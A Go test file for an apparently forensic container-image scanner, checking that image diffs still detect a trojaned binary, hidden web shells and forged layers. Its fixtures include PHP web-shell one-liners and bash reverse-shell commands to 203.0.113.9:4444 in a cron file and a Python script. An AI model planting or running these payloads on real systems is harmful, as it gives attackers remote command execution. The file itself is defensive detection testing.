package casework_test

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/diffscan"
	"github.com/strata-forensics/strata/audit/report"
	"github.com/strata-forensics/strata/casework"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// vouchedPair is a Debian-like original (a base whose dpkg database owns ls, and a web shell
// already there; an app layer) and its suspect: the same two layers and one more that
// trojans ls, adds a cron reverse shell and whites out the web shell.
func vouchedPair() (orig, susp imagebuild.Image, implant imagebuild.Layer) {
	elf := func(name string) string { return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("code of "+name+"\n", 8) }
	sum := func(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }
	ls := elf("ls")
	base := layer("usr", 0, imagebuild.Dir("usr/bin"), imagebuild.Reg("usr/bin/ls", ls).WithMode(0o755),
		imagebuild.Dir("etc"), imagebuild.Reg("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n"),
		imagebuild.Dir("var/lib/dpkg/info"),
		imagebuild.Reg("var/lib/dpkg/status", "Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\n"),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.list", "/usr/bin/ls\n"),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.md5sums", sum(ls)+"  usr/bin/ls\n"),
		imagebuild.Dir("var/www/html"), imagebuild.Reg("var/www/html/admin.php", "<?php $c = $_REQUEST['c']; system($c); ?>\n"))
	app := layer("srv", 1, imagebuild.Reg("srv/app.py", "print('hello')\n"))
	implant = layer("etc", 2, imagebuild.Dir("usr/bin"), imagebuild.Reg("usr/bin/ls", elf("ls trojaned")).WithMode(0o755),
		imagebuild.Dir("etc/cron.d"), imagebuild.Reg("etc/cron.d/sync", "* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n"),
		imagebuild.Dir("var/www/html"), imagebuild.Reg("var/www/html/.wh.admin.php", ""))
	orig = imagebuild.Image{Tags: []string{"deb/app:1"}, Created: fleetTime, Layers: []imagebuild.Layer{base, app}}
	susp = imagebuild.Image{Tags: []string{"deb/app:2"}, Created: fleetTime, Layers: []imagebuild.Layer{base, app, implant}}
	return orig, susp, implant
}

type findingKey struct {
	rule, path string
	layer      int
	sev        audit.Severity
}

func keysOf(fs []audit.Finding, keep func(audit.Finding) bool) []findingKey {
	var out []findingKey
	for _, f := range fs {
		if keep(f) {
			out = append(out, findingKey{f.Rule, f.Path, f.Layer, f.Severity})
		}
	}
	slices.SortFunc(out, func(a, b findingKey) int { return strings.Compare(fmt.Sprint(a), fmt.Sprint(b)) })
	return slices.Compact(out)
}

// TestDiffAnalyzesWhatDiffers: a diff reads the suspect's layers that the original holds (the
// same blob sums) for their trees only. Its findings about the change are those a whole scan
// of the suspect gives, wherever they come from the layer the original lacks or from the
// trees (a trojaned package file checked against the original's database); the trees are
// analyzed whole (a page of the original that the suspect whites out is hidden code);
// the recorded scan says which layers it did not analyze; those layers are not cached as
// analyzed, so that a later scan of the suspect analyzes them.
func TestDiffAnalyzesWhatDiffers(t *testing.T) {
	ctx := context.Background()
	o, s, _ := vouchedPair()
	origRef, suspRef := saveImage(t, o), saveImage(t, s)

	full, err := workspace(t).NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer full.Close()
	whole, err := full.ScanRef(ctx, suspRef, nil)
	if err != nil {
		t.Fatal(err)
	}

	w := workspace(t)
	sc, err := w.NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	res, done, err := w.DiffRefs(ctx, origRef, suspRef, casework.DiffOptions{Scanner: sc}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer done()
	if !slices.Equal(res.Scan.Vouched, []int{0, 1}) {
		t.Fatalf("layers read for their trees only: %v, want [0 1]", res.Scan.Vouched)
	}
	// What a whole scan says about the change, less what it found in the original's own bytes.
	notVouched := func(f audit.Finding) bool { return f.Layer < 0 || f.Layer >= 2 }
	want := keysOf(diffscan.Changed(whole.Findings, res.Diff), notVouched)
	got := keysOf(res.Findings, notVouched)
	if !slices.Equal(got, want) {
		t.Errorf("findings about the change:\n got  %v\n want %v", got, want)
	}
	for _, k := range []findingKey{{"STRATA-PKG-001", "/usr/bin/ls", 2, audit.High}} {
		if !slices.Contains(got, k) {
			t.Errorf("no %v among the findings about the change: %v", k, got)
		}
	}
	// The trees are analyzed whole: the page the suspect whites out is hidden code.
	hidden := keysOf(res.Scan.Findings, func(f audit.Finding) bool { return f.Path == "/var/www/html/admin.php" && f.Layer == 0 })
	if !slices.ContainsFunc(hidden, func(k findingKey) bool { return k.rule == "STRATA-FS-009" }) {
		t.Errorf("the page the suspect whites out is not reported as hidden code: %v", hidden)
	}
	if len(keysOf(res.Findings, func(f audit.Finding) bool { return f.Category == audit.CategoryReverseShell })) == 0 {
		t.Errorf("no reverse shell among the findings about the change: %v", keysOf(res.Findings, notVouched))
	}

	rec := scans(t, w)
	if len(rec) != 1 || !slices.Equal(rec[0].NotAnalyzed, []int{0, 1}) || rec[0].ComparedWith != origRef || rec[0].Complete() {
		t.Fatalf("the recorded scan does not say which layers it left to the original: %+v", rec)
	}

	// A report asked by digest, the evidence not at hand, says what the scan left.
	r, err := w.Report(ctx, casework.ReportRequest{Diff: true, Original: res.Diff.Original.ConfigDigest, Suspect: res.Diff.Suspect.ConfigDigest}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"md", "html"} {
		var b strings.Builder
		if err := report.Render(&b, report.KindTracing, format, r); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), "not analyzed: layers 0 and 1") && !strings.Contains(b.String(), "Not analyzed: layers 0 and 1") {
			t.Errorf("the %s report does not say which layers the scan left to the original", format)
		}
	}

	// A scan of the suspect now analyzes the two layers (only the third is cached), and so
	// finds the web shell the original holds too.
	again, err := sc.ScanRef(ctx, suspRef, nil)
	if err != nil {
		t.Fatal(err)
	}
	if again.CachedLayers != 1 {
		t.Errorf("the scan after the diff took %d layers from the cache, want 1", again.CachedLayers)
	}
	if !slices.ContainsFunc(again.Findings, func(f audit.Finding) bool {
		return f.Path == "/var/www/html/admin.php" && f.Category == audit.CategoryWebshell
	}) {
		t.Errorf("the scan after the diff does not find the web shell of the shared base")
	}
	if got, want := len(again.Findings), len(whole.Findings); got != want {
		t.Errorf("the scan after the diff has %d findings, a scan in a fresh data directory %d", got, want)
	}
}

// TestDiffVouchesOnlyForTheSameBytes: a suspect whose layer claims the original's blob but
// holds other bytes is scanned whole, with a warning, and what those bytes hold is found.
func TestDiffVouchesOnlyForTheSameBytes(t *testing.T) {
	ctx := context.Background()
	o, s, _ := vouchedPair()
	ob, err := imagebuild.Build(o)
	if err != nil {
		t.Fatal(err)
	}
	sb, err := imagebuild.Build(s)
	if err != nil {
		t.Fatal(err)
	}
	evil, err := imagebuild.Build(imagebuild.Image{Created: fleetTime, Layers: []imagebuild.Layer{layer("srv", 1,
		imagebuild.Reg("srv/app.py", "import os\nos.system('bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"')\n"))}})
	if err != nil {
		t.Fatal(err)
	}
	// The manifest and config still name the app layer; its bytes are another layer's.
	sb.Layers[1].Blob, sb.Layers[1].Path = evil.Layers[0].Blob, ""
	dir := t.TempDir()
	origRef, suspRef := filepath.Join(dir, "orig.tar"), filepath.Join(dir, "susp.tar")
	for ref, b := range map[string]*imagebuild.Built{origRef: ob, suspRef: sb} {
		f, err := os.Create(ref)
		if err != nil {
			t.Fatal(err)
		}
		if err := imagebuild.WriteDockerArchive(f, imagebuild.Classic, b); err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	w := workspace(t)
	sc, err := w.NewScanner(ctx, casework.ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	var warned []string
	res, done, err := w.DiffRefs(ctx, origRef, suspRef, casework.DiffOptions{Scanner: sc}, func(e casework.Event) {
		if e, ok := e.(casework.Warning); ok {
			warned = append(warned, e.Err.Error())
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer done()
	if len(res.Scan.Vouched) != 0 {
		t.Errorf("layers %v were read for their trees only though their bytes are not the original's", res.Scan.Vouched)
	}
	if !slices.ContainsFunc(warned, func(s string) bool { return strings.Contains(s, "not the same bytes") }) {
		t.Errorf("no warning that the claims were false: %q", warned)
	}
	if !slices.ContainsFunc(res.Scan.Findings, func(f audit.Finding) bool {
		return f.Path == "/srv/app.py" && f.Category == audit.CategoryReverseShell
	}) {
		t.Errorf("the reverse shell in the forged layer was not found: %v", keysOf(res.Scan.Findings, func(audit.Finding) bool { return true }))
	}
	if rec := scans(t, w); len(rec) != 1 || !rec[0].Complete() {
		t.Errorf("the recorded scan is not a whole one: %+v", rec)
	}
}

// TestDiffAnalyzesWhatOlderLayersBringBack: a suspect that swaps two of the original's layers,
// or drops the top one, shows an older version of a file, the original's own bytes, in place
// of the one that replaced it: nothing is read for its tree only, and the web shell that older
// version is, is among the findings about the change.
func TestDiffAnalyzesWhatOlderLayersBringBack(t *testing.T) {
	ctx := context.Background()
	o, _, implant := vouchedPair()
	base := o.Layers[0]
	shell := layer("srv", 3, imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/config.php", "<?php $c = $_POST['c']; eval(base64_decode($c)); ?>\n"))
	fixed := layer("srv", 4, imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/config.php", "<?php return ['debug' => false]; ?>\n"))
	orig := imagebuild.Image{Tags: []string{"deb/app:1"}, Created: fleetTime, Layers: []imagebuild.Layer{base, shell, fixed}}
	for _, tc := range []struct {
		name   string
		layers []imagebuild.Layer
	}{
		{"swapped", []imagebuild.Layer{base, fixed, shell}},
		{"top layer dropped, another added", []imagebuild.Layer{base, shell, implant}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			susp := imagebuild.Image{Tags: []string{"deb/app:2"}, Created: fleetTime, Layers: tc.layers}
			w := workspace(t)
			sc, err := w.NewScanner(ctx, casework.ScanOptions{})
			if err != nil {
				t.Fatal(err)
			}
			defer sc.Close()
			res, done, err := w.DiffRefs(ctx, saveImage(t, orig), saveImage(t, susp), casework.DiffOptions{Scanner: sc}, nil)
			if err != nil {
				t.Fatal(err)
			}
			defer done()
			if len(res.Scan.Vouched) != 0 {
				t.Errorf("layers %v were read for their trees only", res.Scan.Vouched)
			}
			if !slices.ContainsFunc(res.Findings, func(f audit.Finding) bool {
				return f.Path == "/srv/app/config.php" && f.Category == audit.CategoryWebshell
			}) {
				t.Errorf("the web shell brought back is not among the findings about the change: %v", keysOf(res.Findings, func(audit.Finding) bool { return true }))
			}
		})
	}
}
